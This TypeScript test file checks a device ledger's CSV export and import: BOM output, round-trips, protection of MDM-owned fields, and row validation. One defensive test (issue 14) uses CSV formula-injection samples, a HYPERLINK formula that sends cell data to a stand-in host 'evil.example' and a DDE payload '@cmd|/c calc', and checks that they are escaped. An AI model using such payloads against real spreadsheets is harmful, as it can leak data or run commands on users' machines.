import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createBuiltinLedger, exportLedgerCsv, importLedgerCsv, LEDGER_COLUMNS, MDM_COLUMNS } from '../../../../src/adapters/ledger/builtin';
import { ValidationError } from '../../../../src/errors';
import { createTestDatabase, DIALECTS, type TestDatabase } from '../../../support/databases';

const rowsOf = (csv: string) => parse(csv, { bom: true, columns: true }) as Record<string, string>[];
const nonMdm = (row: Record<string, string>) => Object.fromEntries(LEDGER_COLUMNS.map((c) => [c, row[c]]));

describe.each(DIALECTS)('built-in ledger CSV on %s', (dialect) => {
  let source: TestDatabase;
  let target: TestDatabase;

  beforeAll(async () => {
    [source, target] = await Promise.all([createTestDatabase(dialect), createTestDatabase(dialect)]);
    const ledger = createBuiltinLedger(source.prisma);
    const a = await ledger.create(
      {
        serial: 'F17ZX1ABC',
        assetNumber: '資産-0001',
        platform: 'ios',
        manufacturer: 'Apple',
        model: 'iPhone 15 Pro',
        os: 'iOS (17.5.1)',
        status: 'in_use',
        notes: '営業部・東京\n「予備」, "二台目"',
      },
      { actor: 'U0ADMIN' },
    );
    await ledger.assign(a.id, { email: 'taro.sato@example.co.jp', slackUserId: 'U0TARO', displayName: '佐藤 太郎' }, { actor: 'U0ADMIN' });
    await ledger.create(
      { serial: 'R58N1234XYZ', assetNumber: 'AN-0002', platform: 'android', manufacturer: 'Samsung', model: 'Galaxy S23', status: 'repair', notes: '' },
      { actor: 'U0ADMIN' },
    );
    await ledger.create({ serial: 'C02XL0GHJGH5', platform: 'macos', status: 'retired' }, { actor: 'U0ADMIN' });
    // a device the MDM sync created and owns the MDM fields of
    await source.prisma.device.create({
      data: {
        serial: 'DMPWX0001',
        assetNumber: 'SYS1A',
        platform: 'ipados',
        model: 'iPad Air',
        os: 'iPadOS (17.4)',
        status: 'in_use',
        source: 'jamf',
        mdmSource: 'jamf',
        mdmDeviceId: 'jamf-77',
        abmDeviceId: 'DMPWX0001',
        deviceName: '会議室iPad',
        enrolledAt: new Date('2025-01-02T03:04:05Z'),
        lastCheckInAt: new Date('2026-03-31T23:00:00Z'),
        userEmail: 'room@example.co.jp',
        storageGb: 128,
        registrationState: 'registered',
        customFieldsJson: JSON.stringify({ 設置場所: '本社 3F' }),
      },
    });
  });
  afterAll(async () => Promise.all([source.cleanup(), target.cleanup()]));

  it('exports every field, MDM ones included, as UTF-8 with a BOM', async () => {
    const csv = await exportLedgerCsv(source.prisma);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const rows = rowsOf(csv);
    expect(Object.keys(rows[0]!)).toEqual([...LEDGER_COLUMNS, ...MDM_COLUMNS]);
    const ipad = rows.find((r) => r.serial === 'DMPWX0001')!;
    expect(ipad).toMatchObject({
      mdm_source: 'jamf',
      mdm_device_id: 'jamf-77',
      device_name: '会議室iPad',
      user_email: 'room@example.co.jp',
      storage_gb: '128',
      registration_state: 'registered',
      enrolled_at: '2025-01-02T03:04:05.000Z',
    });
    expect(rows.find((r) => r.serial === 'F17ZX1ABC')).toMatchObject({
      assigned_email: 'taro.sato@example.co.jp',
      assigned_name: '佐藤 太郎',
      notes: '営業部・東京\n「予備」, "二台目"',
    });
  });

  it('writes formulas in device names and notes as text, and imports them back unchanged (issue 14)', async () => {
    const db = await createTestDatabase(dialect);
    try {
      const formula = '=HYPERLINK("https://evil.example/?q="&A1,"Open")';
      await db.prisma.device.create({
        data: {
          serial: 'FORMULA1',
          assetNumber: '-42',
          platform: 'ios',
          status: 'in_use',
          source: 'intune',
          mdmSource: 'intune',
          mdmDeviceId: 'm-1',
          deviceName: formula,
          notes: '@cmd|/c calc',
          userEmail: '+1@example.com',
        },
      });
      const csv = await exportLedgerCsv(db.prisma);
      const row = rowsOf(csv).find((r) => r.serial === 'FORMULA1')!;
      expect(row).toMatchObject({ device_name: `'${formula}`, notes: "'@cmd|/c calc", asset_number: "'-42", user_email: "'+1@example.com" });
      expect((parse(csv, { bom: true }) as string[][]).flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
      expect(await importLedgerCsv(db.prisma, csv, 'U0IMPORT')).toEqual({ created: 0, updated: 0, unchanged: 1 });
      expect(await db.prisma.device.findFirst({ where: { serial: 'FORMULA1' } })).toMatchObject({
        assetNumber: '-42',
        notes: '@cmd|/c calc',
        deviceName: formula,
      });
    } finally {
      await db.cleanup();
    }
  });

  it('round-trips into an empty database: every non-MDM field kept, MDM fields left to the sync', async () => {
    const exported = await exportLedgerCsv(source.prisma);
    const report = await importLedgerCsv(target.prisma, exported, 'U0IMPORT');
    expect(report).toEqual({ created: 4, updated: 0, unchanged: 0 });

    const before = rowsOf(exported).map(nonMdm);
    const after = rowsOf(await exportLedgerCsv(target.prisma)).map(nonMdm);
    expect(after).toEqual(before);

    const ipad = await target.prisma.device.findFirst({ where: { serial: 'DMPWX0001' } });
    expect(ipad).toMatchObject({
      mdmSource: null,
      mdmDeviceId: null,
      deviceName: null,
      enrolledAt: null,
      lastCheckInAt: null,
      userEmail: null,
      storageGb: null,
      registrationState: null,
      source: 'jamf',
    });
    const iphone = await target.prisma.device.findFirst({ where: { serial: 'F17ZX1ABC' }, include: { history: { orderBy: { id: 'asc' } } } });
    expect(iphone!.history.map((h) => [h.kind, h.actor])).toEqual([
      ['created', 'U0IMPORT'],
      ['assigned', 'U0IMPORT'],
    ]);

    // importing the same file again changes nothing
    expect(await importLedgerCsv(target.prisma, await exportLedgerCsv(target.prisma), 'U0IMPORT')).toEqual({ created: 0, updated: 0, unchanged: 4 });
  });

  it('updates matched rows by asset number and never writes MDM columns', async () => {
    const csv = [
      'asset_number,serial,status,notes,mdm_device_id,device_name,user_email',
      'AN-0002,R58N1234XYZ,in_stock,修理完了,evil-id,偽名,x@example.com',
    ].join('\n');
    expect(await importLedgerCsv(target.prisma, csv, { actor: 'U0IMPORT' })).toEqual({ created: 0, updated: 1, unchanged: 0 });
    const d = await target.prisma.device.findUnique({ where: { assetNumber: 'AN-0002' }, include: { history: { orderBy: { id: 'asc' } } } });
    expect(d).toMatchObject({ status: 'in_stock', notes: '修理完了', mdmDeviceId: null, deviceName: null, userEmail: null, model: null });
    expect(d!.history.slice(-2).map((h) => [h.kind, h.fromStatus, h.toStatus])).toEqual([
      ['updated', null, null],
      ['status', 'repair', 'in_stock'],
    ]);
  });

  it('refuses a file with a bad row, names the line, and changes nothing', async () => {
    const count = await target.prisma.device.count();
    const csv = [
      'asset_number,serial,status,platform',
      'NEW-1,SERNEW1,in_use,ios',
      'NEW-2,SERNEW2,故障中,ios',
      'NEW-3,SERNEW3,in_stock,palm',
      'NEW-1,SERNEW4,in_stock,ios',
    ].join('\n');
    const error = await importLedgerCsv(target.prisma, csv, 'U0IMPORT').catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ValidationError);
    expect((error as Error).message).toMatch(/line 3: status: "故障中"/);
    expect((error as Error).message).toMatch(/line 4: platform: "palm"/);
    expect((error as Error).message).toMatch(/line 5: asset number NEW-1 is also on line 2/);
    expect(await target.prisma.device.count()).toBe(count);
    await expect(importLedgerCsv(target.prisma, 'name,colour\nfoo,red\n', 'U0IMPORT')).rejects.toThrow(/asset_number or a serial/);
  });
});
